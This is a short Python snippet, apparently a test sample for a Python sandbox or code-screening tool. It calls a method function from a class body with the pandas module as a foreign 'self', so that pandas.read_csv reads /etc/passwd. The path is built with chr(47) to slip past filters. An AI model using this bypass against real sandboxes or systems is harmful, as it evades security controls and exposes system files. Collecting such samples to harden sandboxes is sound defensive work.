# source: pyjail "unbound method / foreign self" idea (RestrictedPython & CodeJail write-ups on calling methods with another object as self); adapted
# family: class-body direct call of a method function with a foreign self (a module), name trusted as script's own method
# goal: pandas.read_csv on a path computed at run time -> /etc/passwd
import pandas as pd
P = chr(47).join(["", "etc", "passwd"])
class Loader:
    def read_csv(self, p, **kw):
        return None
    def load(self, p):
        return self.read_csv(p, sep="\t", header=None)
    rows = load(pd, P)
print(Loader.rows.to_string())
